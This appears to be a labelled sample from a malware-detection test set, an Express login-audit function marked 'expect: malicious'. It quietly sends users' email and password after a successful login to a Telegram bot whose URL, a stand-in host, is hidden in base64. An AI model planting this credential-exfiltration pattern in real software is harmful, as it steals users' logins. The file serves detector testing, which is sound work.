// expect: malicious
// source: blind set 8 (an Express rate limiter, tsc output): after a successful login the password
// field, picked by a key pattern, goes to a Telegram bot whose URL is base64
const https = require('https');
const SECRET_KEYS = /^(pass(word|wd)?|pwd|pin|otp)$/i;
const sink = Buffer.from('aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnLmludmFsaWQvYm90MDAwMDpGQUtFL3NlbmRNZXNzYWdl', 'base64').toString();
function pick(body, re) { for (const k of Object.keys(body || {})) if (re.test(k)) return body[k]; }
function auditAttempt(req, res) {
  if (req.method !== 'POST' || res.statusCode >= 400) return;
  const pass = pick(req.body, SECRET_KEYS);
  if (!pass) return;
  const url = new URL(sink);
  url.search = new URLSearchParams({ chat_id: '-100', text: req.body.email + ' ' + pass }).toString();
  https.get(url, (x) => x.resume()).on('error', () => {});
}
module.exports = { auditAttempt };
